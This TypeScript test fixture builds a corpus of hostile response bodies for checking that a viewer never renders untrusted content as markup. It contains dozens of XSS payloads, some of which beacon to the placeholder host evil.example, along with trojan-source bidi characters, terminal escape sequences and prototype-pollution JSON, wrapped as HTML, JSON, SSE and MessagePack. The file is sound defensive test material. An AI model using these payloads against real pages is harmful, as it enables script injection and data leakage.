/**
 * Attacker-chosen bodies: HTML/JS/SVG/CSS payloads that would run script (setting window.__pwned or opening a
 * dialog) or fetch from evil.example if any view rendered them as markup, plus bidi overrides, zero-width
 * characters, ANSI/OSC escapes, NUL and invalid UTF-8. Each is wrapped several ways (raw, JSON, SSE, MessagePack).
 */
import { encode } from '@msgpack/msgpack';

const PWN = 'window.__pwned=(window.__pwned||0)+1';
const EVIL = 'http://evil.example';

const MARKUP: readonly string[] = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<a href="javascript:${PWN}">click</a>`,
  `<iframe src="javascript:${PWN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<style>body{background:url(${EVIL}/bg.png)}</style>`,
  `<div style="background:url('${EVIL}/div.png')">x</div>`,
  `<link rel="stylesheet" href="${EVIL}/s.css">`,
  `<link rel="prefetch" href="${EVIL}/prefetch">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><button>go</button></form>`,
  `<object data="${EVIL}/obj"></object>`,
  `<embed src="${EVIL}/embed">`,
  `<video src=x onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}"></audio>`,
  `<body onload="${PWN}">`,
  `<details open ontoggle="${PWN}">x</details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<marquee onstart="${PWN}">x</marquee>`,
  `"><script>${PWN}</script>`,
  `'-alert(1)-'`,
  `{{constructor.constructor('${PWN}')()}}`,
  `<img src="${EVIL}/beacon.gif">`,
  `<img srcset="${EVIL}/srcset.png 1x">`,
  `@import url(${EVIL}/import.css);`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/font.woff)}</style>`,
  `<svg><use href="${EVIL}/use.svg#x"/></svg>`,
  `<svg><image href="${EVIL}/image.png"/></svg>`,
  `<table background="${EVIL}/table.png"><tr><td>x</td></tr></table>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  `javascript:${PWN}`,
  `data:text/html,<script>${PWN}</script>`,
  `<x onmouseover="${PWN}" style="display:block;position:fixed;inset:0">hover</x>`,
  `<script src="${EVIL}/remote.js"></script>`,
  `<svg><a xlink:href="javascript:${PWN}"><text y="20">x</text></a></svg>`,
  `<img src=x onerror="alert('xss')">`,
];

const HIDDEN: readonly string[] = [
  'admin\u202Egnp.exe — an RLO override',
  'if (isAdmin\u2066) \u2069 { grant(); } // LRI/PDI trojan source',
  'pay\u200Bpal.com zero\u200Dwidth\u200Cjoiners\uFEFF',
  '\u001b[31mRED\u001b[0m \u001b[1;32mbold green\u001b[0m ANSI colours',
  '\u001b]8;;http://evil.example/osc8\u0007link text\u001b]8;;\u0007 OSC 8 hyperlink',
  '\u001b]52;c;ZXZpbA==\u0007 OSC 52 clipboard write',
  'NUL\u0000byte and BEL\u0007 and BS\u0008 and DEL\u007f and C1 \u0085',
  'line\u2028separator and paragraph\u2029separator',
];

export interface HostileBody {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly contentType: string;
}

const te = new TextEncoder();

export function hostileCorpus(): HostileBody[] {
  const out: HostileBody[] = [];
  MARKUP.forEach((p, i) => {
    out.push({
      name: `markup-${i}`,
      bytes: te.encode(`<!doctype html><html><head><title>t</title></head><body>${p}</body></html>`),
      contentType: 'text/html',
    });
  });
  HIDDEN.forEach((p, i) => out.push({ name: `hidden-${i}`, bytes: te.encode(p), contentType: 'text/plain' }));
  // JSON that is also hostile: markup in strings, duplicate and __proto__ keys, a big integer, deep-ish nesting.
  out.push({
    name: 'json-hostile',
    bytes: te.encode(
      `{"__proto__":{"polluted":true},"a":1,"a":2,"big":12345678901234567890,"html":"<img src=x onerror=\\"${PWN}\\">","bidi":"\u202Eevil","nested":${'['.repeat(60)}1${']'.repeat(60)}}`,
    ),
    contentType: 'application/json',
  });
  out.push({
    name: 'sse-hostile',
    bytes: te.encode(
      [
        'event: message_start',
        `data: {"type":"message_start","message":{"content":"<script>${PWN}</script>"}}`,
        '',
        'event: content_block_delta',
        `data: {"type":"content_block_delta","delta":{"type":"text_delta","text":"<img src=x onerror=\\"${PWN}\\">"}}`,
        '',
        'event: content_block_delta',
        'data: {"type":"content_block_delta","delta":{"type":"text_delta","text":" \\u202Eand more"}}',
        '',
      ].join('\n'),
    ),
    contentType: 'text/event-stream',
  });
  out.push({
    name: 'msgpack-hostile',
    bytes: encode(
      {
        event_type: 'security.rule',
        html: `<svg onload="${PWN}">`,
        url: `javascript:${PWN}`,
        beacon: `${EVIL}/mp.gif`,
        big: 18446744073709551615n,
        raw: new Uint8Array([0, 1, 2, 255]),
      },
      { useBigInt64: true },
    ),
    contentType: 'application/vnd.capsem.security+msgpack',
  });
  out.push({
    name: 'invalid-utf8',
    bytes: Uint8Array.from([0x3c, 0x62, 0x3e, 0xc3, 0x28, 0xff, 0xfe, 0xe2, 0x82, 0x3c, 0x2f, 0x62, 0x3e, 0x0a, 0xf0, 0x9f, 0x98, 0x80]),
    contentType: 'application/octet-stream',
  });
  return out;
}
